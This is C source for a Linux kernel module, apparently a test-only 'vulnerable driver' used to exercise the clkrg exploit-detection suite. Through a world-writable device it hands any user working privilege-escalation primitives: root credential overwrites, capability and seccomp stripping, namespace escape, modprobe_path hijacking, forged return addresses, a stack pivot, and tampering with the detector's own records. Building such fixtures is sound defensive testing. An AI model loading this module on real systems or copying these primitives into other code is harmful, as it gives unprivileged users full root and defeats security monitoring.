// SPDX-License-Identifier: GPL-2.0
/*
 * clkrg_vuln: TEST-ONLY "vulnerable driver" for clkrg's exploit detection
 * (the pint, pcfi and umh scenarios of the in-VM suite). It hands any
 * local user the primitives a kernel exploit ends up with. NEVER load it
 * on a real system: it is a root shell for everyone.
 *
 * /dev/clkrg_vuln (misc, mode 0666); every ioctl acts on the calling task
 * (numbers and argument structs in clkrg_vuln.h):
 *
 *   CRED_WRITE     uid, gid, euid, egid, suid, sgid, fsuid, fsgid of
 *                  current's cred := 0, written in place (no commit)
 *   CRED_SWAP      current->cred and ->real_cred := a root cred
 *                  (prepare_kernel_cred(&init_task)) by pointer store; the old
 *                  cred is leaked
 *   COMMIT         commit_creds(prepare_kernel_cred(&init_task)) from the ioctl
 *   CAPS           cap_effective, cap_permitted, cap_bset := full, in place
 *   SECCOMP_CLEAR  seccomp.mode := 0, seccomp.filter := NULL (the filter
 *                  is leaked), SYSCALL_WORK_SECCOMP cleared
 *   NS_INIT        current->nsproxy := &init_nsproxy (a reference taken),
 *                  by pointer store; the old nsproxy is leaked
 *   NS_SWITCH      switch_task_namespaces(current, &init_nsproxy)
 *   UMH            modprobe_path := the caller's string, then
 *                  request_module("clkrg-no-such-module"), its result
 *                  returned, then modprobe_path put back
 *   POOL_DRAIN     clkrg's pool of free shadow records emptied: its
 *                  count (clkrg:pool_n) := 0, the records leak (so never
 *                  unload clkrg after it)
 *   RECORD_DROP    current's shadow record in clkrg's table
 *                  (clkrg:clkrg_shadow_table, layout from
 *                  driver/exploit/task_shadow.h) made unfindable: task := NULL
 *   CRED_WRITE_PID CRED_WRITE on the task with the given pid
 *   PCFI           security_capable(current_cred(), &init_user_ns,
 *                  CAP_SYS_ADMIN, 0) entered by a jmp with a return
 *                  address pushed by hand: a label after a run of nops,
 *                  not after a call; it returns through the label
 *   PCFI_SP        the same call made by a real call instruction, but with
 *                  the stack pointer moved to a buffer of this module (a
 *                  stack pivot), and back after it returns
 *
 * Non-exported symbols (init_nsproxy, switch_task_namespaces,
 * modprobe_path, security_capable) come from kallsyms_lookup_name, found
 * through a kprobe (clkrg_testmod.h).
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/capability.h>
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/kmod.h>
#include <linux/miscdevice.h>
#include <linux/mutex.h>
#include <linux/nsproxy.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <linux/string.h>
#include <linux/thread_info.h>
#include <linux/uaccess.h>
#include <linux/user_namespace.h>

#include "clkrg_testmod.h"
#include "clkrg_vuln.h"
/* clkrg's record layout, from its source tree (-I driver) */
#include "exploit/task_shadow.h"

#define VULN_MODULE_NAME	"clkrg-no-such-module"

typedef void (*switch_ns_t)(struct task_struct *p, struct nsproxy *new);

static tm_lookup_name_t vuln_lookup;
static struct nsproxy *vuln_init_nsproxy;
static switch_ns_t vuln_switch_ns;
static char *vuln_modprobe_path;
static unsigned long vuln_security_capable;
static DEFINE_MUTEX(vuln_umh_lock);

static struct cred *cur_cred_rw(void)
{
	return (struct cred *)rcu_dereference_protected(current->cred, 1);
}

static void cred_write(struct cred *c)
{

	c->uid = GLOBAL_ROOT_UID;
	c->euid = GLOBAL_ROOT_UID;
	c->suid = GLOBAL_ROOT_UID;
	c->fsuid = GLOBAL_ROOT_UID;
	c->gid = GLOBAL_ROOT_GID;
	c->egid = GLOBAL_ROOT_GID;
	c->sgid = GLOBAL_ROOT_GID;
	c->fsgid = GLOBAL_ROOT_GID;
}

static long vuln_cred_write(void)
{
	cred_write(cur_cred_rw());
	return 0;
}

static long vuln_cred_write_pid(void __user *uarg)
{
	struct clkrg_vuln_pid a;
	struct task_struct *t;

	if (copy_from_user(&a, uarg, sizeof(a)))
		return -EFAULT;
	rcu_read_lock();
	t = pid_task(find_vpid(a.pid), PIDTYPE_PID);
	if (t)
		cred_write((struct cred *)rcu_dereference(t->real_cred));
	rcu_read_unlock();
	return t ? 0 : -ESRCH;
}

static long vuln_pool_drain(void)
{
	unsigned int *n = (unsigned int *)vuln_lookup("clkrg:pool_n");

	if (!n)
		return -ENOENT;
	WRITE_ONCE(*n, 0);
	return 0;
}

static long vuln_record_drop(void)
{
	struct clkrg_shadow_bucket **table =
		(void *)vuln_lookup("clkrg:clkrg_shadow_table");
	struct clkrg_shadow_bucket *b;
	struct clkrg_shadow *s;
	unsigned long flags;
	long ret = -ENOENT;

	if (!table || !*table)
		return -ENOENT;
	b = &(*table)[hash_ptr(current, CLKRG_SHADOW_BITS)];
	raw_spin_lock_irqsave(&b->lock, flags);
	hlist_for_each_entry(s, &b->head, node) {
		if (s->task == current) {
			WRITE_ONCE(s->task, NULL);
			ret = 0;
			break;
		}
	}
	raw_spin_unlock_irqrestore(&b->lock, flags);
	return ret;
}

static long vuln_cred_swap(void)
{
	struct cred *root = prepare_kernel_cred(&init_task);

	if (!root)
		return -ENOMEM;
	get_cred(root);		/* one reference for each pointer */
	rcu_assign_pointer(current->real_cred, root);
	rcu_assign_pointer(current->cred, root);
	return 0;
}

static long vuln_commit(void)
{
	struct cred *root = prepare_kernel_cred(&init_task);

	if (!root)
		return -ENOMEM;
	return commit_creds(root);
}

static long vuln_caps(void)
{
	struct cred *c = cur_cred_rw();

	c->cap_effective = CAP_FULL_SET;
	c->cap_permitted = CAP_FULL_SET;
	c->cap_bset = CAP_FULL_SET;
	return 0;
}

static long vuln_seccomp_clear(void)
{
	current->seccomp.mode = SECCOMP_MODE_DISABLED;
	current->seccomp.filter = NULL;	/* leaked on purpose */
	clear_task_syscall_work(current, SECCOMP);
	return 0;
}

static long vuln_ns_init(void)
{
	get_nsproxy(vuln_init_nsproxy);
	task_lock(current);
	current->nsproxy = vuln_init_nsproxy;	/* the old one is leaked */
	task_unlock(current);
	return 0;
}

static long vuln_ns_switch(void)
{
	get_nsproxy(vuln_init_nsproxy);
	vuln_switch_ns(current, vuln_init_nsproxy);
	return 0;
}

static long vuln_umh(void __user *uarg)
{
	static char saved[CLKRG_VULN_PATH_LEN];
	struct clkrg_vuln_umh a;
	int ret;

	if (copy_from_user(&a, uarg, sizeof(a)))
		return -EFAULT;
	a.path[sizeof(a.path) - 1] = '\0';
	mutex_lock(&vuln_umh_lock);
	strscpy(saved, vuln_modprobe_path, sizeof(saved));
	strscpy(vuln_modprobe_path, a.path, CLKRG_VULN_PATH_LEN);
	ret = request_module(VULN_MODULE_NAME);
	strscpy(vuln_modprobe_path, saved, CLKRG_VULN_PATH_LEN);
	mutex_unlock(&vuln_umh_lock);
	pr_info("request_module with modprobe_path '%s': %d\n", a.path, ret);
	a.result = ret;
	if (copy_to_user(uarg, &a, sizeof(a)))
		return -EFAULT;
	return 0;
}

/*
 * Enters @fn(cred, &init_user_ns, CAP_SYS_ADMIN, 0) by "push label; jmp":
 * the return address the function sees is label 1, which follows 16 nops
 * (no call instruction ends there). The function's ret lands on it.
 */
static noinline long vuln_pcfi_call(unsigned long fn, unsigned long *forged)
{
	unsigned long a0 = (unsigned long)current_cred();
	unsigned long a1 = (unsigned long)&init_user_ns;
	unsigned long a2 = CAP_SYS_ADMIN, a3 = 0, label;
	long ret;

	asm volatile("lea 1f(%%rip), %[label]\n\t"
		     "push %[label]\n\t"
		     "jmp *%[fn]\n\t"
		     ".rept 16\n\tnop\n\t.endr\n"
		     "1:\n\t"
		     : "=&a"(ret), [label] "=&r"(label), "+D"(a0), "+S"(a1),
		       "+d"(a2), "+c"(a3)
		     : [fn] "r"(fn)
		     : "r8", "r9", "r10", "r11", "memory", "cc");
	*forged = label;
	return (int)ret;
}

/* The pivot's stack: one caller at a time (vuln_pivot_lock). */
#define VULN_PIVOT_SIZE	(4 * PAGE_SIZE)
static unsigned long vuln_pivot[VULN_PIVOT_SIZE / sizeof(long)] __aligned(16);
static DEFINE_MUTEX(vuln_pivot_lock);

/*
 * Calls @fn(cred, &init_user_ns, CAP_SYS_ADMIN, 0) with %rsp at @top, a
 * 16-byte aligned address outside the task's stack; %rbx keeps the real
 * stack pointer across the call.
 */
static noinline long vuln_pcfi_sp_call(unsigned long fn, unsigned long top,
				       unsigned long *ret_addr)
{
	unsigned long a0 = (unsigned long)current_cred();
	unsigned long a1 = (unsigned long)&init_user_ns;
	unsigned long a2 = CAP_SYS_ADMIN, a3 = 0, label;
	long ret;

	asm volatile("lea 1f(%%rip), %[label]\n\t"
		     "mov %%rsp, %%rbx\n\t"
		     "mov %[top], %%rsp\n\t"
		     "call *%[fn]\n"
		     "1:\n\t"
		     "mov %%rbx, %%rsp\n\t"
		     : "=&a"(ret), [label] "=&r"(label), "+D"(a0), "+S"(a1),
		       "+d"(a2), "+c"(a3)
		     : [fn] "r"(fn), [top] "r"(top)
		     : "rbx", "r8", "r9", "r10", "r11", "memory", "cc");
	*ret_addr = label;
	return (int)ret;
}

static long vuln_pcfi_sp(void __user *uarg)
{
	struct clkrg_vuln_pcfi a = { 0 };
	unsigned long ret_addr = 0;

	mutex_lock(&vuln_pivot_lock);
	a.result = vuln_pcfi_sp_call(vuln_security_capable,
				     (unsigned long)&vuln_pivot[ARRAY_SIZE(vuln_pivot)],
				     &ret_addr);
	mutex_unlock(&vuln_pivot_lock);
	a.forged_ret = ret_addr;
	pr_info("security_capable entered with the stack pointer in vuln_pivot: %lld\n",
		a.result);
	if (copy_to_user(uarg, &a, sizeof(a)))
		return -EFAULT;
	return 0;
}

static long vuln_pcfi(void __user *uarg)
{
	struct clkrg_vuln_pcfi a = { 0 };
	unsigned long forged = 0;

	a.result = vuln_pcfi_call(vuln_security_capable, &forged);
	a.forged_ret = forged;
	pr_info("security_capable entered with return address %pS: %lld\n",
		(void *)forged, a.result);
	if (copy_to_user(uarg, &a, sizeof(a)))
		return -EFAULT;
	return 0;
}

static long vuln_ioctl(struct file *f, unsigned int cmd, unsigned long arg)
{
	void __user *uarg = (void __user *)arg;

	switch (cmd) {
	case CLKRG_VULN_CRED_WRITE:
		return vuln_cred_write();
	case CLKRG_VULN_CRED_SWAP:
		return vuln_cred_swap();
	case CLKRG_VULN_COMMIT:
		return vuln_commit();
	case CLKRG_VULN_CAPS:
		return vuln_caps();
	case CLKRG_VULN_SECCOMP_CLEAR:
		return vuln_seccomp_clear();
	case CLKRG_VULN_NS_INIT:
		return vuln_ns_init();
	case CLKRG_VULN_NS_SWITCH:
		return vuln_ns_switch();
	case CLKRG_VULN_UMH:
		return vuln_umh(uarg);
	case CLKRG_VULN_PCFI:
		return vuln_pcfi(uarg);
	case CLKRG_VULN_PCFI_SP:
		return vuln_pcfi_sp(uarg);
	case CLKRG_VULN_POOL_DRAIN:
		return vuln_pool_drain();
	case CLKRG_VULN_RECORD_DROP:
		return vuln_record_drop();
	case CLKRG_VULN_CRED_WRITE_PID:
		return vuln_cred_write_pid(uarg);
	}
	return -ENOTTY;
}

static const struct file_operations vuln_fops = {
	.owner = THIS_MODULE,
	.unlocked_ioctl = vuln_ioctl,
	.compat_ioctl = vuln_ioctl,
};

static struct miscdevice vuln_dev = {
	.minor = MISC_DYNAMIC_MINOR,
	.name = "clkrg_vuln",
	.fops = &vuln_fops,
	.mode = 0666,
};

static int __init vuln_init(void)
{
	tm_lookup_name_t lookup;
	int ret = tm_resolve_lookup_name(&lookup);

	if (ret)
		return ret;
	vuln_lookup = lookup;
	vuln_init_nsproxy = (struct nsproxy *)lookup("init_nsproxy");
	vuln_switch_ns = (switch_ns_t)lookup("switch_task_namespaces");
	vuln_modprobe_path = (char *)lookup("modprobe_path");
	vuln_security_capable = lookup("security_capable");
	if (!vuln_init_nsproxy || !vuln_switch_ns || !vuln_modprobe_path ||
	    !vuln_security_capable) {
		pr_err("a symbol did not resolve\n");
		return -ENOENT;
	}
	return misc_register(&vuln_dev);
}

static void __exit vuln_exit(void)
{
	misc_deregister(&vuln_dev);
}

module_init(vuln_init);
module_exit(vuln_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("clkrg test-only vulnerable driver: exploit primitives for every user");
